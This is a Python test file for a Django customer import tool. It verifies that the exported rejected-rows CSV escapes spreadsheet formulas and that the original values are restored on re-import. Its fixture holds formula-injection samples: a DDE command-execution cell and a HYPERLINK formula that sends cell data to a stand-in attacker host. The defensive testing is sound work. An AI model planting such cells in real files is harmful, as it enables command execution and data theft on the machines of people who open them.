"""The rejected-rows file admins open in a spreadsheet, fix and import again: no cell of it runs as a
formula (Excel, WPS, LibreOffice), and the fixed file gives back the values the DMS had."""

import csv
import io

import pytest
from django.urls import reverse

from customers.models import Customer, ImportBatch, RepairOrder
from tests.customers.dms_helpers import customer_row, make_vin, repair_row, run_import, vehicle_row, write_csv
from tests.factories import StoreFactory

pytestmark = pytest.mark.django_db

# What an attacker (or a careless DMS operator) can put in a cell.
FORMULAS = {
    "客户姓名": "=1+1",
    "工作单位": '=HYPERLINK("http://evil.example/?x="&A2,"点此")',
    "职务": "@SUM(A1:A9)",
    "详细地址": "=cmd|' /C calc'!A0",
    "客户来源": "+1+2",
    "省份": "-2+3",
    "城市": "  =1+1",
}


@pytest.fixture(autouse=True)
def store():
    return StoreFactory(code="NJ01")


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_no_cell_of_the_rejected_rows_file_starts_a_formula(tmp_path):
    rows = [customer_row("C001"), customer_row("", **FORMULAS)]
    errors = tmp_path / "errors.csv"

    run_import("customers", write_csv(tmp_path / "c.csv", rows), "--errors-file", str(errors))

    header, rejected = _rows(errors.read_bytes())
    cells = dict(zip(header, rejected, strict=True))
    assert {name: cells[name] for name in FORMULAS} == {name: "'" + value for name, value in FORMULAS.items()}
    for cell in [*header, *rejected]:
        assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n")), cell


def test_the_file_downloaded_from_the_web_is_the_same_escaped_file(tmp_path, client, admin_user):
    run_import("customers", write_csv(tmp_path / "c.csv", [customer_row("", **FORMULAS)]))
    batch = ImportBatch.objects.get()
    client.force_login(admin_user)

    response = client.get(reverse("customers:import_errors", args=[batch.pk]))

    assert response.status_code == 200
    header, rejected = _rows(response.content)
    assert dict(zip(header, rejected, strict=True))["客户姓名"] == "'=1+1"


def test_a_fixed_rejected_rows_file_imports_the_original_values(tmp_path):
    errors = tmp_path / "errors.csv"
    run_import("customers", write_csv(tmp_path / "c.csv", [customer_row("", **FORMULAS)]), "--errors-file", str(errors))
    header, rejected = _rows(errors.read_bytes())
    rejected[header.index("客户编号")] = "C009"  # the admin types the missing key
    fixed = tmp_path / "fixed.csv"
    write_csv(fixed, [dict(zip(header, rejected, strict=True))], header=header)

    assert run_import("customers", fixed) == "created=1 updated=0 unchanged=0 rejected=0 warnings=0"

    customer = Customer.objects.get(customer_no="C009")
    assert (customer.name, customer.employer, customer.job_title, customer.address, customer.source) == (
        "=1+1",
        '=HYPERLINK("http://evil.example/?x="&A2,"点此")',
        "@SUM(A1:A9)",
        "=cmd|' /C calc'!A0",
        "+1+2",
    )
    assert (customer.province, customer.city) == ("-2+3", "=1+1")


def test_an_escaped_negative_amount_reads_back_as_the_amount(tmp_path):
    vin = make_vin(1)
    run_import("customers", write_csv(tmp_path / "c.csv", [customer_row("C001")]))
    run_import("vehicles", write_csv(tmp_path / "v.csv", [vehicle_row(vin)]))
    path = write_csv(tmp_path / "r.csv", [repair_row("RO1", vin, 工时费="'-120", 结算金额="'-120.50")])

    assert run_import("repair_orders", path) == "created=1 updated=0 unchanged=0 rejected=0 warnings=0"

    order = RepairOrder.objects.get(ro_no="RO1")
    assert (str(order.labor_amount), str(order.total_amount)) == ("-120.00", "-120.50")


def test_an_apostrophe_that_escapes_nothing_is_kept(tmp_path):
    row = customer_row("C001", 客户姓名="'阿伟", 详细地址="O'Brien路")
    run_import("customers", write_csv(tmp_path / "c.csv", [row]))

    customer = Customer.objects.get()
    assert (customer.name, customer.address) == ("'阿伟", "O'Brien路")
